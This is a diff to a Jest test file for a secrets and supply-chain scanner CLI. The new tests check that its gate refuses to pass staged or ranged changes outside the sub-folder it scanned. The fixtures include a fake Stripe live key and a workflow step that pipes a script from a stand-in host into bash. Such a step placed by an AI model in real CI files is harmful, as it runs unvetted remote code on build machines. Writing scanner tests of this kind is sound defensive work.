@@ -128,6 +128,62 @@ describe('proof of coverage', () => {
     expect(own.stderr).not.toContain('scanned 0 of');
     expect(own.code).toBe(0);
   });
+
+  // A repository whose top holds a staged secret and a sub-folder `src` with a staged change of its own.
+  const STRIPE = `const key = 'sk_live_${'51HqLyjWDarjtT1zdp7dc'}Qx8Lm2Np4Rs6Tv8Xz0Bd';\n`;
+  const subfolderRepo = (): string => {
+    const root = project({ 'src/app.js': 'const a = 1;\n' });
+    git(root, 'init', '-q');
+    git(root, 'add', '.');
+    git(root, 'commit', '-qm', 'init');
+    return root;
+  };
+
+  it('--staged from a sub-folder never passes a change it did not scan: the files outside it are named, exit 2', () => {
+    const root = subfolderRepo();
+    writeFileSync(join(root, 'leak.js'), STRIPE);
+    git(root, 'add', 'leak.js');
+    const src = join(root, 'src');
+    const out = join(root, 'out');
+    // Nothing of the change is under src: the gate scanned none of it.
+    const none = sentrik(['gate', '--staged', '--packs', 'secrets', '--quiet', '--output-dir', out], { cwd: src });
+    expect(none.code).toBe(2);
+    oneLineError(none.stderr, /^sentrik: the gate cannot pass: 1 changed file outside .*src was not scanned: \.\.\/leak\.js — .*repository's top folder/);
+    expect(none.stdout).not.toContain('PASSED');
+    // Part of the change is under src and scanned: the rest is still not let through.
+    writeFileSync(join(src, 'app.js'), 'const a = 2;\n');
+    git(root, 'add', 'src/app.js');
+    const part = sentrik(['gate', '--staged', '--packs', 'secrets', '--quiet', '--output-dir', out], { cwd: src });
+    expect(part.code).toBe(2);
+    oneLineError(part.stderr, /1 changed file outside .*src was not scanned: \.\.\/leak\.js/);
+    // scan says the same as a warning, and counts the file as skipped.
+    const scan = sentrik(['scan', '--staged', '--packs', 'secrets', '--quiet', '--output-dir', out], { cwd: src });
+    expect(scan.code).toBe(0);
+    expect(scan.stderr).toContain('sentrik: warning: 1 changed file outside');
+    expect(scan.stdout).toMatch(/Files +1 scanned .*1 skipped \(1 outside-root\)/);
+    // From the top, the secret is found and the gate fails on it.
+    const top = sentrik(['gate', '--staged', '--packs', 'secrets', '--quiet', '--output-dir', out], { cwd: root });
+    expect(top.code).toBe(1);
+    expect(top.stdout).toMatch(/Gate +FAILED/);
+  });
+
+  it('--git-range from a sub-folder names the changed files outside it (Dockerfile, workflow) and the gate exits 2', () => {
+    const root = subfolderRepo();
+    git(root, 'checkout', '-qb', 'feature');
+    mkdirSync(join(root, '.github', 'workflows'), { recursive: true });
+    writeFileSync(join(root, '.github', 'workflows', 'ci.yml'), 'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://x.example/i.sh | bash\n');
+    writeFileSync(join(root, 'Dockerfile'), 'FROM node:latest\n');
+    writeFileSync(join(root, 'src', 'app.js'), 'const a = 2;\n');
+    git(root, 'add', '.');
+    git(root, 'commit', '-qm', 'feature');
+    const r = sentrik(['gate', '--git-range', 'main...feature', '--packs', 'supply-chain-security', '--quiet', '--output-dir', join(root, 'out')], { cwd: join(root, 'src') });
+    expect(r.code).toBe(2);
+    oneLineError(r.stderr, /^sentrik: the gate cannot pass: 2 changed files outside .*src were not scanned: \.\.\/\.github\/workflows\/ci\.yml, \.\.\/Dockerfile — /);
+    // From the top the whole change is scanned.
+    const top = sentrik(['gate', '--git-range', 'main...feature', '--packs', 'supply-chain-security', '--quiet', '--output-dir', join(root, 'out')], { cwd: root });
+    expect(top.stderr).not.toContain('not scanned');
+    expect([0, 1]).toContain(top.code);
+  });
 });
 
 describe('suppression lifecycle', () => {
